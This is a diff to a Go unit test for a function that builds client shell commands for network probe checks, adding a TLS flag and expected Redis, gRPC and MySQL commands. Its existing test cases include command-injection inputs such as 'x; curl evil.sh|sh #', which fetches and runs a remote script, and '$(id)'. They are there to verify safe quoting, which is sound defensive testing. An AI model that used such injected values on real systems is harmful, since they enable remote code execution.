@@ -428,8 +428,17 @@ func TestClientCommand(t *testing.T) {
 		{probe.CheckHTTP, "$(id):80", "curl 'http://$(id)/'"},
 		{probe.CheckTCP, "x; curl evil.sh|sh #:22", "nc -vz 'x; curl evil.sh|sh #' 22"},
 	} {
-		if got := clientCommand(c.check, c.address); got != c.want {
+		if got := clientCommand(c.check, false, c.address); got != c.want {
 			t.Errorf("%s %s: %q, want %q", c.check, c.address, got, c.want)
+		}
+	}
+	for check, want := range map[probe.Check]string{
+		probe.CheckRedis: "redis-cli --insecure -u rediss://10.0.0.1:6379",
+		probe.CheckGRPC:  "grpcurl -insecure 10.0.0.1:6379 grpc.health.v1.Health/Check",
+		probe.CheckMySQL: "nc -vz 10.0.0.1 6379",
+	} {
+		if got := clientCommand(check, true, "10.0.0.1:6379"); got != want {
+			t.Errorf("%s inside TLS: %q, want %q", check, got, want)
 		}
 	}
 }
